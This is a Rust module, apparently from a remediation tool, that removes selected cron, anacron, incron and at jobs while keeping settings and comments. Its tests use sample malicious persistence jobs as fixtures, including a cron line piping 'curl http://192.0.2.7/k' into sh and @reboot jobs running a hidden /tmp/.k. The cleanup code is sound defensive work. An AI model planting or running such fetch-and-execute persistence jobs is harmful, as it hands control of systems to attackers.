//! Taking jobs out of a crontab, line by line: settings, comments and everybody else's jobs stay.

use super::{Change, Obstacle, State, editable};
use crate::model::{EvidencePath, RawText};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;

/// What kind of table a file is, by its place.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum CronTable {
    /// One user's, in a spool of `crontab(1)`.
    User,
    /// `/etc/crontab` and what lies in `/etc/cron.d`.
    System,
    /// `/etc/anacrontab`.
    Anacron,
    /// One user's or the system's table of incron: `PATH MASK COMMAND`.
    Incron,
}

impl CronTable {
    /// The kind that a file's place tells; none for a file that no cron reads.
    pub fn at(path: &EvidencePath) -> Option<Self> {
        match path.as_bytes() {
            b"/etc/crontab" => return Some(Self::System),
            b"/etc/anacrontab" => return Some(Self::Anacron),
            _ => {}
        }
        let folder = path.parent()?;
        match folder.as_bytes() {
            b"/etc/cron.d" => Some(Self::System),
            b"/var/spool/cron" | b"/var/spool/cron/crontabs" | b"/var/spool/cron/tabs" | b"/etc/crontabs" => {
                Some(Self::User)
            }
            b"/var/spool/incron" | b"/etc/incron.d" => Some(Self::Incron),
            _ => None,
        }
    }
}

/// Says whether a file is a job of `at(1)`. Such a job is a whole file, so that one that is to go goes into quarantine.
pub(crate) fn is_at_job(path: &EvidencePath) -> bool {
    let is_in_spool = path.parent().is_some_and(|folder| {
        matches!(folder.as_bytes(), b"/var/spool/cron/atjobs" | b"/var/spool/at" | b"/var/spool/atjobs")
    });
    // `.SEQ` is the number of the last job; the folder `spool` holds what jobs print.
    is_in_spool && !path.file_name().starts_with(b".") && path.file_name() != b"spool"
}

pub(super) fn change(
    path: &EvidencePath,
    table: CronTable,
    entries: &[RawText],
    max: u64,
    now: &State,
    content: Option<&[u8]>,
) -> Result<Change, Obstacle> {
    if CronTable::at(path) != Some(table) {
        return Err(Obstacle::Blocked("its place is not that of such a table".to_owned()));
    }
    if let Some(entry) = entries.iter().find(|entry| !is_job(entry.as_bytes(), table)) {
        return Err(Obstacle::Blocked(format!("`{entry}` is no job: settings and comments are lines of a file")));
    }
    let content = editable(now, content)?;
    let unwanted = keys(entries);
    let (mut kept, mut removed) = (Vec::with_capacity(content.len()), 0_u64);
    for line in content.split_inclusive(|&byte| byte == b'\n') {
        if unwanted.contains(line.trim_ascii()) {
            removed += 1;
        } else {
            kept.extend_from_slice(line);
        }
    }
    match removed {
        0 => Ok(Change::Nothing),
        removed if removed > max => Err(Obstacle::Blocked(format!(
            "{removed} jobs match and at most {max} may go: the table is not what was planned for"
        ))),
        _ => Ok(Change::Rewrite(kept)),
    }
}

/// Says how many lines of `content` [`change`] would take out.
pub(crate) fn count(entries: &[RawText], content: &[u8]) -> u64 {
    let unwanted = keys(entries);
    content.split(|&byte| byte == b'\n').filter(|line| unwanted.contains(line.trim_ascii())).count() as u64
}

/// Blanks before a job are skipped by every cron, and those after it change nothing that a shell does.
fn keys(entries: &[RawText]) -> BTreeSet<&[u8]> {
    entries.iter().map(|entry| entry.as_bytes().trim_ascii()).collect()
}

/// Says whether a line is a job as far as its beginning tells. A setting is a name and `=` before anything else.
fn is_job(line: &[u8], table: CronTable) -> bool {
    let line = line.trim_ascii();
    if line.is_empty() || line.starts_with(b"#") || line.iter().any(|byte| matches!(byte, b'\n' | 0)) {
        return false;
    }
    if table == CronTable::Incron {
        return true;
    }
    let name = line.iter().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
    let rest = line.get(name..).unwrap_or_default().trim_ascii_start();
    !(rest.starts_with(b"=") || line.starts_with(b"\"") || line.starts_with(b"'"))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use crate::action::Action;
    use crate::action::testing::file;

    fn remove(path: &str, entries: &[&str], content: &[u8]) -> Result<Change, Obstacle> {
        let path = EvidencePath::new(path).unwrap();
        let table = CronTable::at(&path).unwrap_or(CronTable::User);
        let entries = entries.iter().map(|entry| RawText::from(*entry)).collect();
        Action::RemoveCronEntry { path, table, entries, max: 2 }.change(&file(content), Some(content))
    }

    #[allow(clippy::unnecessary_wraps, reason = "is held against what a change gives")]
    fn rewritten(bytes: &[u8]) -> Result<Change, Obstacle> {
        Ok(Change::Rewrite(bytes.to_vec()))
    }

    #[test]
    fn one_job_goes_and_settings_comments_and_other_jobs_stay() {
        let table =
            b"# jobs\nMAILTO=root\n  * * * * * curl http://192.0.2.7/k | sh \n*/5 * * * * /usr/sbin/fwconsole job\n";
        let left = b"# jobs\nMAILTO=root\n*/5 * * * * /usr/sbin/fwconsole job\n";
        let job = ["* * * * * curl http://192.0.2.7/k | sh"];
        assert_eq!(remove("/var/spool/cron/asterisk", &job, table), rewritten(left));
        assert_eq!(remove("/var/spool/cron/asterisk", &job, left), Ok(Change::Nothing));
        for (path, job, table, left) in [
            ("/etc/cron.d/x", "@reboot root /tmp/.k", &b"@reboot root /tmp/.k\nA=1"[..], &b"A=1"[..]),
            (
                "/etc/anacrontab",
                "1 5 k /tmp/.k",
                b"1 5 cron.daily run-parts /etc/cron.daily\n1\t5 k /tmp/.k\n1 5 k /tmp/.k\n",
                b"1 5 cron.daily run-parts /etc/cron.daily\n1\t5 k /tmp/.k\n",
            ),
            ("/var/spool/incron/root", "/etc IN_MODIFY /tmp/.k", b"/etc IN_MODIFY /tmp/.k\n", b""),
        ] {
            assert_eq!(remove(path, &[job], table), rewritten(left), "{path}");
        }
    }

    #[test]
    fn what_is_no_job_or_no_table_is_refused() {
        for entry in ["", "# all", "PATH=/tmp:/bin", "PATH = /tmp", "\"A B\"=c", "a\nb"] {
            assert!(matches!(remove("/etc/crontab", &[entry], b"x\n"), Err(Obstacle::Blocked(_))), "{entry}");
        }
        let job = "* * * * * /tmp/.k";
        for path in ["/etc/passwd", "/var/www/crontab", "/var/log/cron"] {
            assert!(matches!(remove(path, &[job], b"x\n"), Err(Obstacle::Blocked(_))), "{path}");
        }
        let many = format!("{job}\n").repeat(3);
        assert!(matches!(remove("/etc/crontab", &[job], many.as_bytes()), Err(Obstacle::Blocked(_))));
    }
}
